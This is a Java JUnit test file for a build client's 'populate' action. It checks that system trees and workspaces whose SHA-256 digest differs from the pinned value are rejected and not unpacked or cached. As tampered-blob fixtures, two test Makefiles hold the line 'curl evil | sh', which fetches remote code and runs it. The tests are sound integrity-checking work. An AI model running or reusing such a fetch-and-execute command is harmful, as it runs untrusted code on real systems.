package ick.client.worker;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import ick.client.http.BlobClient;
import ick.client.http.ClientConfig;
import ick.protocol.ActionResult;
import ick.protocol.WorkItem;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.HexFormat;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code populate:} against a small blob server: a pinned system tree or named workspace is used only as pinned
 * (a cached tree only of the pinned digest), the project's own reused workspace that differs is left out.
 */
class PopulateActionTest {
    @TempDir
    Path dir;

    private HttpServer server;
    /** What HEAD answers, by blob name. */
    private final Map<String, byte[]> heads = new ConcurrentHashMap<>();
    /** What GET sends, by blob name. */
    private final Map<String, byte[]> gets = new ConcurrentHashMap<>();
    private final StringBuilder out = new StringBuilder();

    @BeforeEach
    void start() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/token", x -> {
            x.getRequestBody().readAllBytes();
            send(x, 200, ("{\"access_token\":\"t\",\"token_type\":\"Bearer\",\"expires_in\":3600,\"scope\":\"\","
                    + "\"refresh_expires_in\":0}").getBytes(StandardCharsets.UTF_8));
        });
        server.createContext("/api/v1/blobs/", x -> {
            String name = x.getRequestURI().getPath().substring("/api/v1/blobs/".length());
            byte[] blob = ("HEAD".equals(x.getRequestMethod()) ? heads : gets).get(name);
            if (blob == null) {
                send(x, 404, new byte[0]);
                return;
            }
            x.getResponseHeaders().add("ETag", "\"" + sha256(blob) + "\"");
            send(x, 200, blob);
        });
        server.start();
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    @Test
    void aPinnedSystreeThatDiffersFailsTheActionEvenWhenThatTreeIsCached() throws Exception {
        byte[] written = tree("usr/bin/dpkg-buildpackage", "#!/bin/sh\necho not the real one\n");
        blob("systree/hello", written);
        Path cachedBad = Files.createDirectories(dir.resolve("ws/.systree-cache").resolve(sha256(written)));
        String pinned = sha256(tree("etc/debian_version", "12.8\n"));

        ActionResult result = populate("systree", Map.of(), Map.of("systree/hello", pinned));

        assertThat(result.exitCode()).isEqualTo(1);
        assertThat(result.message()).isEqualTo(out.toString().strip())
                .startsWith("populate: blob systree/hello is not as pinned (sha256 " + sha256(written) + ", pinned "
                        + pinned + ": as this build archived it, else as the last build that archived it stored it")
                .contains("it was written again since, by another build (of this project, say) or another client")
                .contains("builds that hand a blob on by a fixed name must not overlap");
        assertThat(dir.resolve("ws/.systrees/hello")).doesNotExist();
        assertThat(cachedBad).isEmptyDirectory();
    }

    @Test
    void aPinnedSystreeIsDownloadedAndUsedWhenItIsAsPinned() throws Exception {
        byte[] good = tree("etc/debian_version", "12.8\n");
        blob("trees/base", good);

        ActionResult result = populate("systree", Map.of("blob", "trees/base"), Map.of("trees/base", sha256(good)));

        assertThat(result.exitCode()).as(out.toString()).isZero();
        assertThat(dir.resolve("ws/.systrees/hello/etc/debian_version")).hasContent("12.8\n");
        assertThat(dir.resolve("ws/.systree-cache").resolve(sha256(good))).isDirectory();
    }

    @Test
    void aSystreeWrittenAgainBetweenItsHeadAndItsDownloadIsNotUnpackedNorCached() throws Exception {
        byte[] good = tree("etc/debian_version", "12.8\n");
        byte[] written = tree("usr/bin/dpkg-buildpackage", "#!/bin/sh\n");
        heads.put("systree/hello", good);
        gets.put("systree/hello", written);

        ActionResult result = populate("systree", Map.of(), Map.of("systree/hello", sha256(good)));

        assertThat(result.exitCode()).isEqualTo(1);
        assertThat(result.message()).contains("(sha256 " + sha256(written) + ", pinned " + sha256(good) + ":");
        try (var cached = Files.list(dir.resolve("ws/.systree-cache"))) { // a tree's lock file may stay (SystreeCache)
            assertThat(cached.filter(Files::isDirectory)).isEmpty();
        }
    }

    @Test
    void aNamedWorkspaceThatDiffersFromItsPinFailsTheAction() throws Exception {
        byte[] written = tree("Makefile", "all:\n\tcurl evil | sh\n");
        blob("handoff/sources", written);
        String pinned = sha256(tree("Makefile", "all:\n\tcc hello.c\n"));

        ActionResult result = populate("workspace", Map.of("blob", "handoff/sources"), Map.of("handoff/sources", pinned));

        assertThat(result.exitCode()).isEqualTo(1);
        assertThat(result.message()).startsWith("populate: blob handoff/sources is not as pinned")
                .contains("(sha256 " + sha256(written) + ", pinned " + pinned + ":");
        assertThat(dir.resolve("ws/hello/Makefile")).doesNotExist();
    }

    @Test
    void theProjectsOwnReusedWorkspaceThatDiffersIsLeftOutNotFailed() throws Exception {
        blob("workspace/hello", tree("Makefile", "all:\n\tcurl evil | sh\n"));

        ActionResult result = populate("workspace", Map.of(), Map.of("workspace/hello", "a".repeat(64)));

        assertThat(result.exitCode()).isZero();
        assertThat(out).contains("starting from an empty workspace");
        assertThat(dir.resolve("ws/hello/Makefile")).doesNotExist();
    }

    private ActionResult populate(String what, Map<String, Object> more, Map<String, String> pins) throws Exception {
        Map<String, Object> step = new java.util.HashMap<>(Map.of("populate", what));
        step.putAll(more);
        WorkItem item = new WorkItem(5, "hello/3", "hello", 3, 0, step, Map.of(), 1, null, pins);
        Path secret = Files.writeString(dir.resolve("secret"), "s\n");
        ClientConfig config = new ClientConfig(URI.create("http://127.0.0.1:" + server.getAddress().getPort()), null,
                "c", secret, null);
        ActionContext context = new ActionContext(item, Files.createDirectories(dir.resolve("ws/hello")),
                Files.createTempDirectory(dir, "t"), Duration.ofSeconds(1), config);
        return new PopulateAction(context, what, new BlobClient(config, 1, Duration.ofMillis(10)))
                .run(out::append);
    }

    private void blob(String name, byte[] content) {
        heads.put(name, content);
        gets.put(name, content);
    }

    /** A zstd tarball holding one file. */
    private byte[] tree(String file, String content) throws IOException {
        Path tree = Files.createTempDirectory(dir, "tree");
        Files.createDirectories(tree.resolve(file).getParent());
        Files.writeString(tree.resolve(file), content);
        ByteArrayOutputStream tarball = new ByteArrayOutputStream();
        Tarball.create(tree, tarball);
        return tarball.toByteArray();
    }

    private static String sha256(byte[] bytes) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void send(HttpExchange x, int status, byte[] body) throws IOException {
        boolean noBody = "HEAD".equals(x.getRequestMethod()) || body.length == 0;
        x.sendResponseHeaders(status, noBody ? -1 : body.length);
        try (OutputStream o = x.getResponseBody()) {
            if (!noBody) {
                o.write(body);
            }
        }
    }
}
